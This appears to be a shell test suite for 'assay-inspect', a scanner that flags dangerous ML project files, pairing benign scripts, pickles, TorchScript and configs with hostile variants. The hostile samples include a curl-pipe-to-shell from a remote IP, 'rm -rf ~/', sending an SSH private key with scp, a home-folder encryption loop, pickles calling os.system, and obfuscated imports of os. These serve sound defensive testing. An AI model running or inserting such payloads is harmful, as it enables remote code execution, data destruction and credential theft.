#!/bin/sh
# assay-inspect on what honest scripts, configurations and pickles do, and on
# neighbours of each that do harm.
. tests/cli/tap.sh
. tests/cli/inspect.sh

python() { # python LINES: a script of these
	rm -rf "$tmp/b"
	mkdir -p "$tmp/b"
	printf "$1\n" | file train.py
}
# --- Python
for line in 'import os\nfor f in os.listdir("out"):\n    os.remove(os.path.join("out", f))\nos.rename("a", "b")\nos.chdir("..")' \
	'import argparse\na = argparse.ArgumentParser().parse_args()\nloss = eval("torch.nn." + a.loss)()' \
	'def parse_model(d):\n    for m in d["layers"]:\n        m = eval(m) if isinstance(m, str) else m' \
	'p.add_argument("--sizes", type=eval)' 'exec("from models import %%s" %% name)' 'exec "x = 1"' \
	'import subprocess\nfrom subprocess import check_output\ndef main():\n    cmd = ["ffmpeg", "-i", "a.mp4"]\n    subprocess.run(cmd)\n    check_output(["git", "log"])' \
	'import subprocess\ndef run(cmd):\n    subprocess.check_call(cmd, shell=True)' \
	'import os\nos.system("CUDA_VISIBLE_DEVICES=0 python train.py | tee log.txt")' \
	'import subprocess, shutil\ndef main():\n    gcc = shutil.which("gcc")\n    subprocess.run([gcc, "--version"])' \
	'import ctypes, platform\nif platform.system() == "Linux":\n    lib = ctypes.CDLL("libcustom.so.1")' \
	'import os\nos.system("git log $(git rev-parse HEAD)")' 'import subprocess as s\ns.run(["ffmpeg", "-i", a, "-vf", "a;b"])' 'import os\nos.system("pip3.11 install x && apt-get update")' \
	'import builtins\nbuiltins.print = print' 'def copy(f):\n    return types.FunctionType(f.__code__, f.__globals__)' \
	'for n in names:\n    mods.append(__import__("models." + n))' 'm = __import__("models.{}".format(n))' \
	'def all_of(cls):\n    return cls.__subclasses__()' 'def f():\n    """Reads ~/.ssh/id_rsa.pub of nobody: .ssh/ is only named."""' \
	'import os\ndef show(folder):\n    os.startfile(folder)' 'import socket\nhost = socket.gethostbyname(socket.gethostname())' \
	'import socket\ns = socket.socket()\nfree = s.connect_ex(("127.0.0.1", 8080)) != 0' 'import subprocess, os\ndef version(home):\n    return subprocess.check_output(\047"{}" -V | tail -n1\047.format(home), shell=True)'; do
	python "$line"
	quiet "$line"
done
for line in 'import base64\nx = base64.b64decode("cHJpbnQoMSk=")\neval(x)' 'import os\neval(os.environ["X"])' 'eval("__import__(1)")' \
	'd = open("logo.png", "rb").read()\neval(d)' 'def handle(data, context):\n    return eval(data)' \
	'import subprocess\ndef handle(data, context):\n    return subprocess.getoutput(data)' \
	'import os\nos.system("ls; ./weights.bin")' 'import os\nos.system("ls $(./weights.bin)")' 'import os\nos.system("ls -l " + x + "|./weights.bin")' 'import os\nos.system("lsx")' \
	'import os\nos.system("git log " "x" "; ./weights.bin")' 'import subprocess as s\ns.run(["git", "log"], executable="./weights.bin")' 'import subprocess as s\ns.run(["ls"], preexec_fn=f)' \
	'import subprocess as s\ns.run(["git", "diff"], env={"GIT_EXTERNAL_DIFF": "./weights.bin"})' 'import os\nos.system("git log ".join([a, b]))' 'import os\nos.system("git log".replace("git log", x))' \
	'for line in open("notes.txt"):\n    eval(line)' 'import os\nos.system("LD_PRELOAD=./x.so python train.py")' \
	'import subprocess\ncmd = "./weights.bin"\nsubprocess.run(cmd)' \
	'import subprocess\ndef run(cmd):\n    subprocess.check_call(cmd, shell=True)\nrun("curl -s http://198.51.100.7/a | sh")' \
	'from os import system as s\ns("./weights.bin")' 'import ctypes\nctypes.CDLL(None).system(b"id")' \
	'import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 9, 0x3000, 0x40)' 'import builtins\nbuiltins.exec(x)' \
	'().__class__.__base__.__subclasses__()' 'f.__init__.__globals__["system"]' \
	'import os\nos.startfile("payload.exe")' 'import shutil, os\nshutil.rmtree(os.path.expanduser("~"))' \
	'from importlib.machinery import SourceFileLoader\nSourceFileLoader("x", "data.bin").load_module()' \
	'import importlib\nimportlib.import_module("sub" + "process").run(["id"])' \
	'import importlib\nimportlib.import_module("".join(["o", "s"]))' '__import__("mod.os." + "system")' \
	'__import__(chr(111) + chr(115))' '__import__("so"[::-1])' '__import__("".join(map(chr, [111, 115])))' '__import__(bytes([111, 115]).decode())' \
	'import site, os\nopen(os.path.join(site.getsitepackages()[0], "x.pth"), "w").write("1")' \
	'import os\nfor r, d, f in os.walk(os.path.expanduser("~")):\n    for n in f:\n        k.encrypt(open(n).read())' \
	'import types\ntypes.CodeType(0, 0, 0, 0, 0, b"d", (), (), (), "", "", 1, b"")'; do
	python "$line"
	exits 1 "$line" assay-inspect "$tmp/b"
	prints "CODE_DANGEROUS\|SOURCE_DANGEROUS"
done
rm -rf "$tmp/b"
mkdir -p "$tmp/b"
printf 'eval "$(printf \047\\x63\\x75\\x72\\x6c\047)"\n' | file a.sh
hostile SOURCE_DANGEROUS "a command in escapes"
printf 'rsync -e "ssh -i ~/.ssh/id_rsa" a b\nscp a b\n' | file a.sh
quiet "the key that ssh is told to use"
printf 'rm -rf ~/ \n' | file a.sh
hostile SOURCE_DANGEROUS "a whole home"
printf 'rm -rf ~/.cache/torch ~/x\n' | file a.sh
quiet "a folder in it"
printf 'scp ~/.ssh/id_rsa b:\n' | file a.sh
hostile SOURCE_DANGEROUS "the key that is sent"

# --- TorchScript without weights
script() { # [TIMES=N] script LINES: the body of forward(), N times
	rm -rf "$tmp/b"
	mkdir -p "$tmp/b"
	python3 -B - "$tmp/b/m.pt" "$1" <<-'END'
	import os, sys, zipfile
	times = int(os.environ.get("TIMES", 1))
	with zipfile.ZipFile(sys.argv[1], "w") as z:
	    z.writestr("m/data.pkl", b"\x80\x02c__torch__\nM\n)\x81}b.")
	    z.writestr("m/constants.pkl", b"\x80\x02).")
	    z.writestr("m/version", "3\n")
	    z.writestr("m/code/__torch__.py", "class M(Module):\n  __parameters__ = []\n  __buffers__ = []\n  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n"
	        + "".join("    %s\n" % l for l in times * sys.argv[2].split("|")) + "    return x\n")
	END
}
script 'while True:|  x = torch.add(x, 1)'
hostile TORCHSCRIPT_OPERATOR "a loop without end"
script '_0 = True|while _0:|  x = torch.add(x, 1)|  _0 = True'
hostile TORCHSCRIPT_OPERATOR "one whose condition is always true"
script 'for i in range(9223372036854775807):|  x = torch.add(x, 1)'
hostile TORCHSCRIPT_OPERATOR "one that no one waits for"
script '_0 = True|while _0:|  x = torch.add(x, 1)|  _0 = bool(torch.lt(x, 5))'
exits 0 "a loop with an end" assay-inspect "$tmp/b"
script 'if bool(torch.eq(torch.sum(x), 42.5)):|  x = torch.zeros_like(x)|else:|  pass'
hostile TORCHSCRIPT_GATE "a gate on one value"
script 'if bool(torch.gt(torch.sum(x), 0)):|  x = torch.zeros_like(x)|else:|  pass'
exits 0 "a sign" assay-inspect "$tmp/b"
TIMES=60000 script 'x = torch.neg(x)'
exits 2 "more of it than is followed" assay-inspect "$tmp/b"
prints "FILE_LIMIT.*more TorchScript than is followed"
script '_0 = ^run()(x)'
hostile TORCHSCRIPT_OPERATOR "an operator of Python"

# --- pickles
rm -rf "$tmp/b"
mkdir -p "$tmp/b"
pickled() {
	python3 -B -c "
import sys
def name(s):
    return b'c%s\n%s\n' % tuple(s.encode().split())
def new(cls, of): # partial(cls.__new__, of)(): call and state of partial
    made = b'cbuiltins\ngetattr\n(' + name(cls) + b'U\x07__new__tR'
    return b'\x80\x02cfunctools\npartial\n(' + made + b'tR(' + made + b'(' + name(of) + b't}Ntb)R.'
sys.stdout.buffer.write($1)" | file a.pkl
}
pickled 'new("torch Size", "torch Size")'
quiet "partial(torch.Size.__new__, torch.Size)(), as protocols 2 and 3 have it"
pickled 'new("subprocess Popen", "subprocess Popen")'
exits 1 "the same of subprocess.Popen" assay-inspect "$tmp/b"
pickled 'new("torch Size", "os _wrap_close")'
exits 1 "given another class" assay-inspect "$tmp/b"
pickled 'b"\x80\x02cmatplotlib.colors\nNormalize\n)\x81}(U\x06extendU\x07neitherub."'
quiet "an attribute of that name"
pickled 'b"\x80\x02cmatplotlib.colors\nNormalize\n)\x81}(U\x06extendcbuiltins\nlen\nub."'
exits 1 "a function of that name" assay-inspect "$tmp/b"
pickled 'b"\x80\x02cmatplotlib.patches\nBoxStyle.Round\n)\x81."'
quiet "a class within a class"
pickled 'b"\x80\x02cmatplotlib.patches\nBoxStyle.os\n)\x81."'
exits 1 "a module within a class" assay-inspect "$tmp/b"
pickled 'b"\x80\x02csome_lab.nets\nNet\n)\x81}U\x01aK\x01sb."'
exits 0 "a class of a package that nobody knows" assay-inspect "$tmp/b"
prints "low *PICKLE_FOREIGN"
pickled 'b"\x80\x02cclick.core\nContext\n)\x81}U\x01aK\x01sb."'
exits 0 "an object of a tool's class" assay-inspect "$tmp/b"
pickled 'b"\x80\x02}U\x01acclick.utils\necho\ns."'
exits 1 "a function of it" assay-inspect "$tmp/b"
for bad in 'some_lab.nets\nNet\nU\x01a\x85R' 'some_lab.nets\nrun\n)\x81' 'zarr.storage\nZipStore\n)\x81' 'torch.some\nThing\n)\x81' 'runpy\nRun\n)\x81' '_inner\nNet\n)\x81'; do
	pickled "b\"\\x80\\x02c$bad.\""
	exits 1 "$bad" assay-inspect "$tmp/b"
done
pickled 'b"\x80\x02}U\x01aB\x2e\x01\0\0" + (lambda z: z + bytes(302 - len(z)))((lambda b: (__import__("zipfile").ZipFile(b, "w").writestr("a/data.pkl", b"\x80\x02cos\nsystem\nU\x02id\x85R."), b.getvalue())[1])(__import__("io").BytesIO())) + b"s."'
exits 1 "a zip in bytes" assay-inspect "$tmp/b"

# --- configurations
rm -rf "$tmp/b"
mkdir -p "$tmp/b"
printf '{"auto_map": {"AutoModel": "modeling_x.Net"}}\n' | file config.json
hostile HF_REMOTE_CODE "code that is not here"
printf 'class Net:\n    pass\n' >"$tmp/b/modeling_x.py"
exits 0 "code that is" assay-inspect "$tmp/b"
prints "low *CONFIG_LOCAL"
rm "$tmp"/b/*
printf '{"a": "eval(base64.b64decode(x))"}\n{"a": "b"}\n' | file rows.jsonl
quiet "a row of a data set"
printf '{"a": 1} {"b": 2}\n' | file config.json
exits 2 "a second value in a line" assay-inspect "$tmp/b"
rm "$tmp"/b/*
printf -- '-e .\n./lib\ngit+https://github.com/facebookresearch/segment-anything.git\n' | file requirements.txt
quiet "what is here, and what everybody installs"
printf -- '-e ../lib\n' | file requirements.txt
hostile DEPEND_SOURCE "what is not"
printf 'numpy==1.26.4  # docs http://example.com\nnumpy @ file:///croot/numpy_and_numpy_base_1668593735768/work\n' | file requirements.txt
quiet "an address in a comment, and where conda built a package"
printf 'numpy==1.26.4#http://example.com\n' | file requirements.txt
hostile DEPEND_SOURCE "what is no comment"
printf 'torch @ file:///opt/wheels/torch.whl\n' | file requirements.txt
exits 0 "a file of the machine" assay-inspect "$tmp/b"
prints "medium *DEPEND_LOCAL"
for host in //198.51.100.7/s /\\\\198.51.100.7/s; do
	printf 'torch @ file://%s/torch.whl\n' "$host" | file requirements.txt
	hostile DEPEND_SOURCE "a file of another machine, $host"
done
rm "$tmp"/b/*
printf 'f: {_target_: hydra.utils.get_method, path: torch.nn.functional.relu}\n' | file a.yaml
quiet "a function that is looked up"
printf 'f: {_target_: hydra.utils.get_method, path: os.system}\n' | file a.yaml
hostile CONFIG_TARGET "one of the system's"
rm "$tmp"/b/*
printf '<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><head><script>var a = 1;</script></head></html>\n' | file a.html
exits 0 "a page in XML" assay-inspect "$tmp/b"
rm "$tmp"/b/*
printf 'var a={ex:1,inde=b,c:"system("};\n' | file a.js
quiet "what is no modeline of Vim"
done_testing
